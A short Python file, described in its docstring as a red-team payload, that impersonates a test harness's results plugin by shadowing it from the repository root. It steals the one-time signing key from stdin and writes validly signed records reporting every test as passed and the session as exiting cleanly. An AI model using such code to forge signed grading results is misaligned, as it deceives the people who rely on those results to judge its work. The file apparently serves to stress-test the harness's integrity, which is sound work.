"""red-team payload: a composer_lab_results.py in the repo root, found before the real plugin. It
reads the one-time key from stdin exactly like the real one, and signs every report as passed."""
import hashlib
import hmac
import json
import os

_out = None


def _read_key():
    if os.environ.get("COMPOSER_LAB_SIGNED") != "1":
        return None
    data = b""
    try:
        while not data.endswith(b"\n") and len(data) < 256:
            chunk = os.read(0, 1)
            if not chunk:
                break
            data += chunk
    except OSError:
        return None
    return data.strip() or None


_key = _read_key()


def _write(obj):
    global _out
    if _out is None:
        _out = open(os.environ.get("COMPOSER_LAB_RESULTS", "/results/results.jsonl"), "a", buffering=1)
    line = json.dumps(obj)
    if _key:
        line = json.dumps({"r": line, "s": hmac.new(_key, line.encode(), hashlib.sha256).hexdigest()})
    _out.write(line + "\n")


def pytest_runtest_logreport(report):
    _write({"nodeid": report.nodeid, "phase": report.when, "outcome": "passed", "duration": 0.0})


def pytest_sessionfinish(session, exitstatus):
    _write({"nodeid": "", "phase": "session", "outcome": "finished", "exitstatus": 0})
